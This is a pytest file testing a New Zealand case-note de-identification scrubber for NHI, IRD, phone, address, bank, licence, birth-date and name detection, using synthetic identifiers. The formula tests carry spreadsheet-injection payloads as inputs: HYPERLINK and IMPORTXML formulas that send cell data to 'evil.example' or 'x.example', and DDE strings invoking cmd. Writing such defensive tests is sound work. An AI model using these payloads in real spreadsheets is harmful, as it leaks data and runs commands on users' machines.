"""Each NZ recognizer on its own: what it must find, and what it must leave alone."""
import pytest

from deid.scrub import Scrubber
from deid.scrub.recognizers import KnownNamesRecognizer
from deid.scrub.scrub import KeepPhrases


@pytest.fixture(scope="module")
def scrubber(standards):
    return Scrubber(standards)


@pytest.mark.parametrize("text, expected", [
    ("NHI ZZZ0016 on file", "NHI <NHI> on file"),
    ("nhi zac 5361 checked", "nhi <NHI> checked"),
    ("new format ABC12DS", "new format <NHI>"),
    ("IRD 49-091-850 given", "IRD <IRD> given"),
    ("ird 136410132", "ird <IRD>"),
    ("call 021 555 0123 today", "call <PHONE> today"),
    ("ph (09) 573 7709", "ph <PHONE>"),
    ("+64 27 388 5862 is her cell", "<PHONE> is her cell"),
    ("email jo.smith@xtra.co.nz now", "email <EMAIL> now"),
    ("Moved to Flat 2, 15A Smith St, Mt Eden, Auckland 1024 in May", "Moved to <ADDRESS> in May"),
    ("lives at 156 Taniwha Avenue, RD 4, Kawerau 3127.", "lives at <ADDRESS>."),
    ("write to PO Box 1234, Wellington 6140", "write to <ADDRESS>"),
    ("now at 12 Ara Tūhono, Ōtara", "now at <ADDRESS>"),
    ("DOB 04/03/1990 confirmed", "DOB <DOB> confirmed"),
    ("Whaea Mere will come", "Whaea <PERSON> will come"),
    ("her son Nikau started kura", "her son <PERSON> started kura"),
])
def test_when_text_holds_personal_information_then_it_is_replaced(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text", [
    "Attended 6 of 8 sessions; wellbeing score improved from 4 to 7.",
    "Budget saved $120 a week since 14 August 2026.",
    "Session on 14/08/2026 at the marae.",
    "NHI ZZZ0017 looks wrong",          # bad check digit: not an NHI
    "Reference 12345678 on the invoice",  # bad IRD check digit
    "Goal: establish bedtime routine. Progress good.",
    "Gave her the Healthline number 0800 611 116 and 0508 828 865.",   # organisations' freephone lines
    "Call Youthline 0800 376 633 or text 234.",                           # a line's name before it
    "Next home visit 19.11.25 12.30pm; session booked 2025-01-20 2.30pm.",   # a date and its time
    "Koha paid, receipt no. OT-2024-767555.",                              # the tail of a code
    "Next visit Jul 11am, then Fri 10pm check-in.",                        # a month or day and a time, not an NHI
    "Kaupapa of the hui explained.",                                       # a te reo word in lower case before a verb
])
def test_when_text_is_a_distractor_then_it_survives(scrubber, text):
    assert scrubber.scrub(text)[0] == text


@pytest.mark.parametrize("text, expected", [
    ("Pls call Mana back on 0800 633 475 after 6.", "Pls call <PERSON> back on <PHONE> after 6."),
    ("Contact details updated: mobile 0800 579 670.", "Contact details updated: mobile <PHONE>."),
    ("Missed call from 0800960975 - it was Bill.", "Missed call from <PHONE> - it was <PERSON>."),
    ("Mark's new number is 0800 734 369.", "<PERSON>'s new number is <PHONE>."),
    # and where the words say it is an organisation's line, the freephone number stays
    ("Kahu rang 0800 345 123 (KidsCan) about the shoes.", "<PERSON> rang 0800 345 123 (KidsCan) about the shoes."),
    ("Mere from Plunket on 027 431 5994 or 0800 933 922.", "<PERSON> from Plunket on <PHONE> or 0800 933 922."),
])
def test_when_a_freephone_number_is_given_as_a_persons_then_it_is_scrubbed(scrubber, text, expected):
    """0800 numbers are organisations' lines by the numbering plan, but the words before one can say it is a
    person's: only a line's own cue keeps it (third blind set: every client number there started 0800)."""
    assert scrubber.scrub(text)[0] == expected


def test_when_names_are_known_then_any_case_and_macrons_are_found(scrubber):
    known = KnownNamesRecognizer(["Hōhepa Tāne", "Kahurangi Tūhiwai"])
    text = "HOHEPA and kahurangi tuhiwai met Hōhepa's koro."
    assert scrubber.scrub(text, known)[0] == "<PERSON> and <PERSON> met <PERSON>'s koro."


def test_when_a_known_name_is_also_a_word_then_only_the_capitalised_form_is_a_name(scrubber):
    known = KnownNamesRecognizer(["Will Parata"])
    assert scrubber.scrub("Will said she will come", known)[0] == "<PERSON> said she will come"


def test_when_a_word_sits_next_to_a_known_name_then_it_is_taken_as_part_of_the_name(scrubber):
    known = KnownNamesRecognizer(["Aroha"])
    assert scrubber.scrub("Visit with Aroha Ngata and the kids.", known)[0] == "Visit with <PERSON> and the kids."


def test_when_a_programme_name_contains_a_cue_word_then_it_survives(scrubber):
    keep = KeepPhrases(["Pēpi First"])
    assert scrubber.scrub("Attended Pēpi First twice.", None, keep)[0] == "Attended Pēpi First twice."


def test_when_spans_are_recorded_then_they_carry_recognizer_not_text(scrubber):
    _, spans = scrubber.scrub("NHI ZZZ0016")
    assert spans[0].entity == "NZ_NHI" and spans[0].recognizer == "NzNhiRecognizer"
    assert "ZZZ0016" not in repr(spans)


def test_when_a_phone_number_is_in_an_unallocated_range_then_it_is_still_scrubbed_but_references_are_not(standards):
    from deid.scrub import Scrubber

    clean, _ = Scrubber(standards).scrub("Called on 03-895-4081; invoice ref 123456 for $1,250.")
    assert "895" not in clean and "<PHONE>" in clean and "123456" in clean and "$1,250" in clean


def test_when_many_notes_are_scrubbed_in_workers_then_the_result_is_the_same_as_in_one_process(standards, monkeypatch):
    from deid.scrub import Scrubber, scrub
    from tests.scrub.labelled_notes import load_notes

    scrubber = Scrubber(standards)
    notes = load_notes()[:60]
    texts = [n.text for n in notes] + [None]
    names = [name for n in notes for name in n.known_names]
    monkeypatch.setattr(scrub, "PARALLEL_FROM", 10)
    monkeypatch.setattr(scrub, "CHUNK_NOTES", 25)
    parallel = scrub.scrub_texts(scrubber, texts, names, ["Triple P"], workers=2)
    single = scrub.scrub_texts(scrubber, texts, names, ["Triple P"], workers=1)
    assert [text for text, _ in parallel] == [text for text, _ in single] and parallel[-1] == (None, [])


@pytest.mark.parametrize("text, placeholder", [
    ("Refund to 12-3140-0171323-50 please", "<BANK_ACCOUNT>"),
    ("Refund to 12 3140 0171323 050 please", "<BANK_ACCOUNT>"),
    ("Driver licence: DL123456 seen", "<DRIVER_LICENCE>"),
    ("email t.ngata@school.nz bounced", "<EMAIL>"),
])
def test_when_bank_accounts_licences_and_emails_appear_then_they_are_replaced(standards, text, placeholder):
    from deid.scrub import Scrubber

    clean, _ = Scrubber(standards).scrub(text)
    assert placeholder in clean and not any(ch.isdigit() for ch in clean.replace("<", "").split(placeholder)[0][-3:])


def test_when_a_licence_like_code_has_no_licence_cue_then_it_survives(standards):
    from deid.scrub import Scrubber

    assert Scrubber(standards).scrub("Invoice AB123456 paid")[0] == "Invoice AB123456 paid"


def _standards_with(standards, tmp_path, extra: str):
    import shutil

    from deid.standards import load_standards

    copy = tmp_path / "standards"
    shutil.copytree(standards.directory, copy)
    with (copy / "recognizers.yaml").open("a", encoding="utf-8") as handle:
        handle.write(extra)
    return load_standards(copy)


def test_when_a_local_spacy_model_is_configured_then_its_person_entities_are_scrubbed_too(standards, tmp_path):
    import spacy

    from deid.scrub import Scrubber

    nlp = spacy.blank("en")
    nlp.add_pipe("entity_ruler").add_patterns([{"label": "PERSON", "pattern": "Zephyrine"}])
    nlp.to_disk(tmp_path / "model")
    configured = _standards_with(standards, tmp_path, f"ner_model_path: {tmp_path / 'model'}\n")
    # No cue, not in the lexicon, at the start of a sentence: only the model takes it for a name.
    assert Scrubber(standards).scrub("Zephyrine today")[0] == "Zephyrine today"
    assert Scrubber(configured).scrub("Zephyrine today")[0] == "<PERSON> today"


def test_when_the_configured_model_is_missing_then_the_error_names_the_file_and_field(standards, tmp_path):
    from deid.errors import ScrubError
    from deid.scrub import Scrubber

    configured = _standards_with(standards, tmp_path, "ner_model_path: /nowhere/model\n")
    with pytest.raises(ScrubError, match=r"recognizers.yaml: field 'ner_model_path' is '/nowhere/model'.*nothing is downloaded"):
        Scrubber(configured)


@pytest.mark.parametrize("text, expected", [
    ('=HYPERLINK("http://evil.example/?d="&A2,"Click for results")', "<FORMULA>"),
    ("@SUM(1+1)", "<FORMULA>"),
    ("=cmd|' /C calc'!A0", "<FORMULA>"),
    ("-2+3+cmd|' /C calc'!A0", "<FORMULA>"),
    ("+SUM(A1:A3)*2", "<FORMULA>"),
    ('Called mum. =IMPORTXML(CONCAT("http://x.example/?",B2),"//a") then left', "Called mum. <FORMULA> then left"),
    ("Good session\n=1+1\nnext week", "Good session\n<FORMULA>\nnext week"),
])
def test_when_a_note_holds_a_spreadsheet_formula_then_it_is_replaced(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text", [
    "- attended group\n+ve progress this week",
    "score went -2 to +3; 2 sessions (of 8) left",
    "=> refer to GP",
    "ex-partner(s) visited",
    "- see GP (Tue)",
])
def test_when_a_note_only_looks_like_arithmetic_then_it_survives(scrubber, text):
    assert scrubber.scrub(text)[0] == text


def test_when_case_notes_hold_formula_payloads_then_no_scrubbed_note_carries_them(scrubber):
    import polars as pl

    from deid.safe_text import is_formula_shaped
    from deid.scrub.scrub import scrub_notes

    notes = ['=HYPERLINK("http://x.example/?q=ZZZ0016","Results")', "@SUM(1+1)", "Home visit went well."]
    scrubbed, result = scrub_notes(pl.DataFrame({"case_notes": notes}), scrubber)
    out = scrubbed.get_column("case_notes_scrubbed").to_list()
    assert out == ["<FORMULA>", "<FORMULA>", "Home visit went well."]
    assert not any(is_formula_shaped(n) for n in out) and result.entities.get("SPREADSHEET_FORMULA") == 2


# --- issue 15: names without the record, te reo kept, identifier forms -------------------------

@pytest.mark.parametrize("text, expected", [
    ("Spoke with aroha about the week.", "Spoke with <PERSON> about the week."),          # lower case after a person verb
    ("Rang sefo re the hui.", "Rang <PERSON> re the hui."),                              # on no list, after a verb
    ("Whaea awhina called about kai.", "Whaea <PERSON> called about kai."),              # te reo word after a title
    ("Her partner TAMA is working.", "Her partner <PERSON> is working."),
    ("Texted Ora a reminder.", "Texted <PERSON> a reminder."),
    ("Then Viliami said things are better.", "Then <PERSON> said things are better."),
    ("Home visit with Te Ariki Tamihana.", "Home visit with <PERSON>."),
    ("Saw Jane Te Hira in town.", "Saw <PERSON> in town."),
    ("Client TE HIRA, Ataahua seen today.", "Client <PERSON> seen today."),
    ("NGUYỄN, Ryan seen today.", "<PERSON> seen today."),
    ("Met Jessica and the kids.", "Met <PERSON> and the kids."),                       # outside lexicon
    ("Went with Jessica to WINZ.", "Went with <PERSON> to WINZ."),
])
def test_when_a_note_names_someone_the_record_does_not_then_the_name_is_replaced(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text", [
    "Showed a lot of aroha to the tamariki.",
    "Wants to keep her mana intact.",
    "Dropped off a kai parcel. The whānau is settled.",
    "Kai parcel dropped off.",
    "Aroha in the whare was clear.",
    "Attended Te Ara Hou group this week.",
    "Kia Māia session 4 of 8 completed.",
    "Referred to Te Kākano by the GP.",
    "Whānau Tahi session 4 of 8 completed.",
    "Referral sent to Aroha Whānau Trust.",
    "Tui Ora will help with housing.",
    "Met worker from Oranga Tamariki at the house. Te Ara Hou starts Monday.",
    "Spoke with whānau about the hui.",
    "Invoice 49091850 paid.",                     # a valid IRD check digit, but an invoice
    "Receipt no. 033055080 for the power bill.",  # looks like a Christchurch landline
    "Food grant of $7,830.74.",
    "Next visit 13 May 2026 at 10:30am.",
])
def test_when_te_reo_programmes_or_references_are_written_then_they_survive(scrubber, text):
    assert scrubber.scrub(text)[0] == text


@pytest.mark.parametrize("text, expected", [
    # A client called Aroha: a person where the context says so, the word elsewhere.
    ("Aroha said things are better.", "<PERSON> said things are better."),
    ("Spoke with Aroha Ngata today.", "Spoke with <PERSON> today."),
    ("Went with Aroha to WINZ.", "Went with <PERSON> to WINZ."),
    ("Mum thanked us; Aroha's car is fixed.", "Mum thanked us; <PERSON>'s car is fixed."),
    ("Showed a lot of aroha to the tamariki.", "Showed a lot of aroha to the tamariki."),
    ("Keen to start Aroha Mai next term.", "Keen to start Aroha Mai next term."),
    ("Letter from Aroha Whānau Trust received.", "Letter from Aroha Whānau Trust received."),
    # A client called Mana: the word in "mana of the whānau" stays.
    ("Spoke about the mana of the whānau.", "Spoke about the mana of the whānau."),
    ("Talked to Mana and Karaka by phone.", "Talked to <PERSON> and <PERSON> by phone."),
    ("Mana Tāne group this week.", "Mana Tāne group this week."),
    # Every part of the name is also a word: side by side, not all in lower case, they are a name.
    ("Saw Aroha TE RANGI at the clinic.", "Saw <PERSON> at the clinic."),
    ("Aroha TE RANGI seen today.", "<PERSON> seen today."),
    ("Aroha Te Rangi reports less stress.", "<PERSON> reports less stress."),
    ("te rangi was clear", "te rangi was clear"),
    # A client called May: a month stays a month.
    ("Next visit 8 May 2026.", "Next visit 8 May 2026."),
    # a date of birth after the word says a person is meant; "a tui" stays a bird
    ("Aroha (b. 24 September 1977) lives in Ōtara.", "<PERSON> (b. <DOB>) lives in <ADDRESS>."),   # a residence: an address
    ("Saw a tui (b. 2019 nest) by the aroha garden.", "Saw a tui (b. 2019 nest) by the aroha garden."),
])
def test_when_a_known_name_is_also_a_te_reo_or_english_word_then_context_decides(scrubber, text, expected):
    known = scrubber.known_names(["Aroha Ngata", "Mana Karaka", "May Walker", "Aroha Te Rangi"])
    assert scrubber.scrub(text, known)[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("Driver licence UW 655820 sighted.", "Driver licence <DRIVER_LICENCE> sighted."),
    ("Licence no. UW-655820", "Licence no. <DRIVER_LICENCE>"),
    ("DL uw655820 checked", "DL <DRIVER_LICENCE> checked"),
    ("born 12th May 2017.", "born <DOB>."),
    ("Date of birth: 3rd of March 2019", "Date of birth: <DOB>"),
    ("DOB May 12, 2017", "DOB <DOB>"),
    ("Pēpi born on the 4th of July 2020", "Pēpi born on the <DOB>"),
    # a linking word between the cue and the date (scrub_words.yaml birth_cue_links)
    ("He confirmed his date of birth as 18/12/1985.", "He confirmed his date of birth as <DOB>."),
    ("DOB is 3 May 2015", "DOB is <DOB>"),
    # ... but not without a birth cue: a visit date stays
    ("Next visit as agreed 4/5/2026", "Next visit as agreed 4/5/2026"),
])
def test_when_licences_and_dates_of_birth_are_written_in_other_forms_then_they_are_replaced(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


def _valid_account(separator: str) -> str:
    from stdnum.nz import bankaccount

    for n in range(10_000):
        candidate = f"01-0902-{n:07d}-00"
        if bankaccount.is_valid(candidate):
            parts = candidate.split("-")
            return {"-": candidate, " ": " ".join(parts), "": "".join(parts), "/": "/".join(parts), ".": ".".join(parts),
                    "mixed": f"{parts[0]}{parts[1]}-{parts[2]}-{parts[3]}"}[separator]
    raise AssertionError("no valid account found")


@pytest.mark.parametrize("separator", ["-", " ", "", "/", ".", "mixed"])
def test_when_a_bank_account_is_written_with_any_separators_then_it_is_replaced(scrubber, separator):
    assert scrubber.scrub(f"Paid into {_valid_account(separator)} today")[0] == "Paid into <BANK_ACCOUNT> today"
    assert scrubber.scrub(f"Paid into {_valid_account(separator)}.")[0] == "Paid into <BANK_ACCOUNT>."


def test_when_dates_and_amounts_have_slashes_and_full_stops_then_they_are_not_bank_accounts(scrubber):
    assert scrubber.scrub("Seen 12/05/2017 and paid $1,250.00 on 01/09/2026")[0] == "Seen 12/05/2017 and paid $1,250.00 on 01/09/2026"


def _ird_with_check_digit_apart() -> str:
    from stdnum.nz import ird

    digits = next(f"{n:08d}" for n in range(10_000_000, 10_100_000) if ird.is_valid(f"{n:08d}"))
    return f"{digits[:-1]}-{digits[-1]}"


def test_when_an_ird_number_has_its_check_digit_set_apart_then_it_is_replaced(scrubber):
    number = _ird_with_check_digit_apart()
    assert scrubber.scrub(f"IRD {number} for WFF")[0] == "IRD <IRD> for WFF"
    wrong = number[:-1] + str((int(number[-1]) + 1) % 10)    # the check digit does not fit: not an IRD number
    assert scrubber.scrub(f"Code {wrong} for WFF")[0] == f"Code {wrong} for WFF"
    assert scrubber.scrub(f"Invoice {number} paid")[0] == f"Invoice {number} paid"   # a reference cue decides


def test_when_an_ird_cue_and_a_reference_cue_are_both_there_then_the_ird_number_is_replaced(scrubber):
    assert scrubber.scrub("Ref: IRD 49-091-850")[0] == "Ref: IRD <IRD>"


@pytest.mark.parametrize("text, expected", [
    # a cue after a full stop starts again: the sentence before ends with a cue word
    ("Gave kai to the tamariki. Spoke with Losa about the week.", "Gave kai to the tamariki. Spoke with <PERSON> about the week."),
    # a cue that ends one list of names begins the next
    ("Saw mum Pania and baby Kōwhai today.", "Saw mum <PERSON> and baby <PERSON> today."),
    ("Whaea Huhana and Matua Hōne opened the hui.", "Whaea <PERSON> and Matua <PERSON> opened the hui."),
    # a comma between a kinship word and the name
    ("They have a new baby, Rua.", "They have a new baby, <PERSON>."),
    # a particle opens a family name inside a list; capitals after a name in the same list
    ("Visited Te Rangi and Kōwhai at the marae.", "Visited <PERSON> and <PERSON> at the marae."),
    ("Talked to Mereana and FALEOLO by phone.", "Talked to <PERSON> and <PERSON> by phone."),
    # lower case after a kinship or role word when a verb follows (a te reo word needs a person verb)
    ("Her aunty losa helps with pick-ups.", "Her aunty <PERSON> helps with pick-ups."),
    ("dad nikau came to group.", "dad <PERSON> came to group."),
    ("mum kai parcels given.", "mum kai parcels given."),
    # a capitalised word on no list, before a person verb, at a sentence's start
    ("Losaline said things are better at home.", "<PERSON> said things are better at home."),
    ("Plunket said the visit went well.", "Plunket said the visit went well."),
])
def test_when_a_name_follows_a_sentence_break_a_list_or_a_comma_then_it_is_still_found(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("names, text, expected", [
    (["Tama Horomona"], "Tama brought the forms in.", "<PERSON> brought the forms in."),      # an irregular verb after it
    (["Marama Horomona"], "Marama set a goal to save.", "<PERSON> set a goal to save."),
    (["Ji-woo Park"], "Ji-woo finds the evening sessions hard.", "<PERSON> finds the evening sessions hard."),
    (["Marama Horomona"], "Te marama was full.", "Te marama was full."),                 # the word, in lower case
])
def test_when_a_known_name_begins_a_clause_or_is_hyphenated_then_it_is_found(scrubber, names, text, expected):
    assert scrubber.scrub(text, scrubber.known_names(names))[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("SW to ring Losa 12/09/2024.", "SW to ring <PERSON> 12/09/2024."),                       # a person verb before a date
    ("Client: NGATA, Aroha. Caregiver: Tevita.", "Client: <PERSON>. Caregiver: <PERSON>."),   # a role and a colon
    # an identifier after the name (its cue word in capitals stays: a name does not run on over it)
    ("Losaline DOB 06/11/2010; NHI ZZZ0024.", "<PERSON> DOB <DOB>; NHI <NHI>."),
])
def test_when_a_cue_an_identifier_or_an_organisation_stands_beside_a_name_then_the_name_is_found(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("names, text, expected", [
    (["Grace Wilson"], "Kids at kura; Grace doing drop-offs.", "Kids at kura; <PERSON> doing drop-offs."),
    (["Hui Zhao"], "Kaupapa of the hui explained.", "Kaupapa of the hui explained."),      # the word, after an article
    (["Hui Zhao"], "hui said she is settled.", "<PERSON> said she is settled."),
    (["Moana Taufa"], "Gave Moana the Te Whatu Ora number.", "Gave <PERSON> the Te Whatu Ora number."),  # the thing starts after "the"
])
def test_when_a_known_name_that_is_also_a_word_is_read_in_context_then_article_and_verb_decide(scrubber, names, text, expected):
    assert scrubber.scrub(text, scrubber.known_names(names))[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("Paid for camp. Ihaka (born 1/6/2019) now living with nan.", "Paid for camp. <PERSON> (born <DOB>) now living with nan."),
    ("Court date set; kiri (lawyer) briefed.", "Court date set; <PERSON> (lawyer) briefed."),
    ("Tamariki (Tangi, Teuru) settled.", "Tamariki (<PERSON>, <PERSON>) settled."),
    ("Dr O'Connor took notes.", "Dr <PERSON> took notes."),
    ("Note by Ngametua.", "Note by <PERSON>."),
    ("Whānau said Whetu is staying with Teuru Raela.", "Whānau said <PERSON> is staying with <PERSON>."),
    ("Tired mata (eyes), not sleeping.", "Tired mata (eyes), not sleeping."),      # a te reo word with a gloss
    ("Session 4 (of 8) done.", "Session 4 (of 8) done."),
])
def test_when_a_bracket_or_a_living_arrangement_says_who_then_the_name_is_found(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("Kids at kura. Whetu attends 4 days.", "Kids at kura. <PERSON> attends 4 days."),
    ("Txt from Frank: Dean unwell, asked to move appt.", "Txt from <PERSON>: <PERSON> unwell, asked to move appt."),
    ("Noted Sefo and their girl Mereana at home.", "Noted <PERSON> and their girl <PERSON> at home."),
    ("Visited Hemi, Nooroa and Rima at the kōhanga.", "Visited <PERSON>, <PERSON> and <PERSON> at the kōhanga."),   # listed with a name
])
def test_when_a_person_acts_or_is_listed_with_a_name_then_the_name_is_found(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text", ["Date of Birth (2)", "Ethnicity (2)", "Phone (2)"])
def test_when_a_header_carries_a_number_in_brackets_then_it_is_not_taken_for_a_name_and_age(scrubber, text):
    assert scrubber.scrub(text)[0] == text


@pytest.mark.parametrize("text, expected", [
    # a capitalised word of Polynesian shape on no list, mid-sentence or before a verb, is a person
    ("whaea Sela says Sione is settling in", "whaea <PERSON> says <PERSON> is settling in"),
    ("Lots of laughter today, Pita more settled.", "Lots of laughter today, <PERSON> more settled."),
    ("Home visit done. Matiu has a new job.", "Home visit done. <PERSON> has a new job."),
    ("Back at kura this wk, PITA pleased.", "Back at kura this wk, <PERSON> pleased."),
    # ... but not after a preposition of place, nor as a word of a thing's name, nor an everyday te reo word
    ("Arrears of $53 at Vaka Tautua, plan agreed.", "Arrears of $53 at Vaka Tautua, plan agreed."),
    ("Arrears w/ Tuilagi, plan agreed.", "Arrears w/ <PERSON>, plan agreed."),   # a list after a cue ends at a word
    ("Referred to Aiga Malosi for support.", "Referred to Aiga Malosi for support."),
    ("Whānau came to the hui, kai was shared.", "Whānau came to the hui, kai was shared."),
    ("Called MSD and WINZ today.", "Called MSD and WINZ today."),
])
def test_when_a_name_is_on_no_list_then_its_polynesian_shape_and_place_in_the_sentence_decide(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("Plan reviewed. Hemi, Whānau Ora navigator", "Plan reviewed. <PERSON>, Whānau Ora navigator"),
    ("Next session booked. Losa - Pasifika family worker", "Next session booked. <PERSON> - Pasifika family worker"),
    ("Budget appt w/ Alofa 23 November 3pm.", "Budget appt w/ <PERSON> 23 November 3pm."),
    ("Session opened w/ karakia.", "Session opened w/ karakia."),
    ("Confirmed w/ Rangatahi Hub today.", "Confirmed w/ Rangatahi Hub today."),
    ("Spoke to the whānau, social worker present.", "Spoke to the whānau, social worker present."),
])
def test_when_a_role_follows_a_name_or_with_is_shortened_then_the_person_is_found(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("Mail to 2999 State Highway 11, RD 4, Moerewa 0211. Arrears paid.", "Mail to <ADDRESS>. Arrears paid."),
    ("koro drivers lic VG138373 sighted", "koro drivers lic <DRIVER_LICENCE> sighted"),
    ("call case mgr on (07) 549 9876 if worried", "call case mgr on <PHONE> if worried"),
    ("Invoice no. 49091850 paid", "Invoice no. 49091850 paid"),
])
def test_when_identifiers_take_rural_licence_and_reference_forms_then_each_is_read_right(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


def test_when_a_known_name_is_a_te_reo_word_then_a_subject_verb_makes_it_the_name_even_in_lower_case(scrubber):
    known = scrubber.known_names(["Kaha Ngata"])
    assert scrubber.scrub("Good hui. kaha had a good week at kura.", known)[0] == "Good hui. <PERSON> had a good week at kura."
    assert scrubber.scrub("Told the whānau kia kaha for the week ahead.", known)[0] == "Told the whānau kia kaha for the week ahead."


@pytest.mark.parametrize("text, expected", [
    ("matua Rāwiri says Huia is settling in", "matua <PERSON> says <PERSON> is settling in"),
    ("The power bill is the big stress for Bill right now.", "The power bill is the big stress for <PERSON> right now."),
    ("Koha paid. Kai was provided after the hui.", "Koha paid. Kai was provided after the hui."),
    ("We went to the Marae for kai and karakia.", "We went to the Marae for kai and karakia."),
    ("Bank acct for Red Cross payment sorted.", "Bank acct for Red Cross payment sorted."),
    ("Lots of aroha in the room, kia kaha.", "Lots of aroha in the room, kia kaha."),
])
def test_when_an_everyday_word_that_is_a_name_is_capitalised_mid_sentence_then_it_is_a_person(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("Txt from M. Tawhiri this am re the hui", "Txt from <PERSON> this am re the hui"),
    ("uncle said S. Aumua-Peleti hasnt been sleeping.", "uncle said <PERSON> hasnt been sleeping."),
    ("no answer from Huia. No-show today.", "no answer from <PERSON>. No-show today."),
    ("Aroha said things are tight now", "<PERSON> said things are tight now"),
    ("Manaakitanga shown by Huia Parata; offered kai", "Manaakitanga shown by <PERSON>; offered kai"),
    ("Referred by Plunket last week", "Referred by Plunket last week"),
    ("Write to P. O. Box 1234 Wellington", "Write to P. <ADDRESS>"),
])
def test_when_an_initial_or_a_message_cue_comes_before_a_name_then_the_name_is_found(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("All good. -- V Tauiliili budget adviser", "All good. -- <PERSON> budget adviser"),
    ("Good week. /tipene YW", "Good week. /<PERSON> YW"),
    ("Next steps agreed. - Rowena (SW)", "Next steps agreed. - <PERSON> (SW)"),
    ("Good week. - Next HV Tues", "Good week. - Next HV Tues"),
    ("Referral received from Moana Family Services for Sharon Fitzgerald.",
     "Referral received from Moana Family Services for <PERSON>."),
    ("Kaumātua Lose opened w/ karakia.", "Kaumātua <PERSON> opened w/ karakia."),
])
def test_when_a_note_is_signed_or_a_name_follows_an_organisation_or_an_elder_then_the_name_is_found(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("Fetu and koroua ioane at home", "<PERSON> and koroua <PERSON> at home"),
    ("pāpā Jun-Jun drivers lic MD298985 sighted", "pāpā <PERSON> drivers lic <DRIVER_LICENCE> sighted"),
    ("koroua shared kōrero about the whenua", "koroua shared kōrero about the whenua"),
])
def test_when_a_te_reo_kinship_word_comes_before_a_name_then_the_name_is_found_and_te_reo_words_stay(scrubber, text, expected):
    assert scrubber.scrub(text)[0] == expected


@pytest.mark.parametrize("text, expected", [
    ("Whakawhanaungatanga with Yan A. and her whānau.", "Whakawhanaungatanga with <PERSON> and her whānau."),
    ("whānau hui with pita p., cousin", "whānau hui with <PERSON>, cousin"),
    ("ph call from j. choi on the 3rd", "ph call from <PERSON> on the 3rd"),
    ("Spoke with Hope T. today", "Spoke with <PERSON> today"),
    # beside an everyday word, a lower-case letter is not the person's initial ("w." is "with")
    ("Lots of aroha w. the whānau", "Lots of aroha w. the whānau"),
])
def test_when_a_known_name_stands_with_the_persons_initial_then_both_are_the_name(scrubber, text, expected):
    known = scrubber.known_names(["Aroha Waititi", "Yan Aperahama", "Pita Paewai", "Ji-ho Choi", "Hope Tamihana"])
    assert scrubber.scrub(text, known)[0] == expected


@pytest.mark.parametrize("text", [
    "Strong Roots session Jul 22nd at 12:50pm.",     # each passes the new format's mod-23 check by chance
    "Pushed her against the wall on Tuesday the 12th.",
    "Well child check due 15th of April.",
    "See you Aug 11th at 5 pm.",
    "Spoke to Lupe, REF REF-4786, follow up booked.",  # a reference word and four digits passing the old format's check
])
def test_when_a_day_of_the_month_or_a_reference_passes_the_nhi_check_by_chance_then_it_stays(scrubber, text):
    assert scrubber.scrub(text)[0].endswith(text[-12:]) and "<NHI>" not in scrubber.scrub(text)[0]


def test_when_an_nhi_ends_like_an_ordinal_but_is_written_as_nhis_are_then_it_is_still_replaced(scrubber):
    from deid.scrub.recognizers.nz_nhi_recognizer import _is_day_ordinal

    assert _is_day_ordinal("Jul 22nd") and _is_day_ordinal("due15th") and _is_day_ordinal("THE 12TH")
    assert not _is_day_ordinal("ZBN11TH")        # capitals, no space: how an NHI is written
    assert not _is_day_ordinal("Jul 22th")       # not the ordinal of 22
    assert scrubber.scrub("NHI ZBN77VL seen")[0] == "NHI <NHI> seen"


@pytest.mark.parametrize("text", [
    "Receipt RC-294-2372 for NZ$150 filed.",     # letters of a lexicon name running into digits: a code
    "Case CW-2024-1474 transferred today.",
])
def test_when_a_reference_code_begins_with_letters_that_are_a_name_then_it_stays(scrubber, text):
    assert scrubber.scrub(text)[0] == text
